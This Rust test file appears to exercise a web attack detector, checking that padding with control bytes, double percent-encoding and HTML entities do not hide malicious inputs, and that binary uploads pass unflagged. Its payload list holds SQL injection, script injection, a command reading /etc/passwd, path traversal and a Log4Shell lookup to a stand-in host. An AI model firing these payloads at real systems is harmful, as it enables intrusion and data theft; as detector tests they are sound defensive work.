//! Control bytes and binary data.

use super::{FORM, JSON, MULTIPART, assert_payload, escaped, is_attack, noise, part, signatures, typed};
use flate2::{Compression, write::DeflateEncoder};
use std::io::Write;

fn entities(text: &str) -> String {
    text.bytes().fold(String::new(), |text, byte| text + &format!("&#{byte};"))
}

/// Payloads that are attacks in any field.
const PAYLOADS: &[&str] = &[
    "' or 1=1--",
    "1' union select 1,2 -- ",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    ";cat /etc/passwd",
    "../../../../etc/passwd",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
];

#[test]
fn control_bytes_do_not_switch_decoding_off() {
    // One control byte in 19, and nothing but control bytes.
    for padding in ["%01".repeat(16_400), "abcdefghijklmnopqr%01".repeat(900), "%1F%00".repeat(9_000)] {
        for payload in PAYLOADS {
            let twice = escaped(escaped(payload));
            let form = typed(FORM, format!("a=1&x={padding}{twice}"));
            assert_payload(&form, &format!("{payload} percent-encoded twice after {}", &padding[..6]));
            let form = typed(FORM, format!("a=1&x={padding}{}", escaped(entities(payload))));
            assert_payload(&form, &format!("{payload} as entities after {}", &padding[..6]));
        }
    }
    for payload in PAYLOADS {
        let body = format!("{{\"x\":\"{}{}\"}}", "\\u0001".repeat(16_400), escaped(payload));
        assert_payload(&typed(JSON, body), payload);
    }
}

#[test]
fn layers_beyond_the_limit_are_reported_in_binary_values_as_well() {
    let body = format!("x={}%{}27", "%01".repeat(16_400), "25".repeat(30));
    assert!(signatures(&typed(FORM, body)).iter().any(|it| it.starts_with("overlimit-depth")));
}

/// A ZIP archive of one entry, without its directory.
fn zip(content: &[u8]) -> Vec<u8> {
    let mut encoder = DeflateEncoder::new(Vec::new(), Compression::none());
    encoder.write_all(content).unwrap();
    let data = encoder.finish().unwrap();
    let size = |bytes: &[u8]| u32::try_from(bytes.len()).unwrap().to_le_bytes();
    let sizes = [size(&data), size(content)].concat();
    let head = [b"PK\x03\x04\x14\0\0\0\x08\0\0\0\0\0\0\0\0\0".as_slice(), &sizes, b"\x08\0\0\0data.bin"];
    [head.concat(), data].concat()
}

#[test]
fn binary_uploads_pass() {
    for seed in 1..5 {
        let noise = noise(150_000, 88_172_645_463_325_252 * seed);
        let png = [b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".as_slice(), &noise].concat();
        let protobuf = [b"\x0A\xF0\x93\x09".as_slice(), &noise].concat();
        for (name, content) in
            [("png", png), ("zip", zip(&noise)), ("data", noise.clone()), ("protobuf", protobuf)]
        {
            let of_part = |head: &str| typed(MULTIPART, part(head, &content));
            for (place, upload) in [
                ("body", typed("application/octet-stream", content.clone())),
                ("typed body", typed("application/x-protobuf", content.clone())),
                ("field", of_part("Content-Type: application/octet-stream")),
                ("field with a charset", of_part("Content-Type: text/plain; charset=UTF-8")),
                (
                    "form",
                    typed(
                        FORM,
                        format!("f={}", escaped(String::from_utf8_lossy(&content[..20_000]).as_bytes())),
                    ),
                ),
            ] {
                let found = signatures(&upload);
                let unread = found.iter().any(|it| it.starts_with("overlimit"));
                assert!(!unread && !is_attack(&upload), "{name}, {place}, {seed}: {found:?}");
            }
        }
    }
}

#[test]
fn long_binary_uploads_are_no_overlimit() {
    let noise = noise(1 << 20, 7);
    for upload in [typed("application/octet-stream", noise.clone()), typed(MULTIPART, part("X: y", &noise))] {
        let found = signatures(&upload);
        assert!(!found.iter().any(|it| it.starts_with("overlimit")), "{found:?}");
    }
}
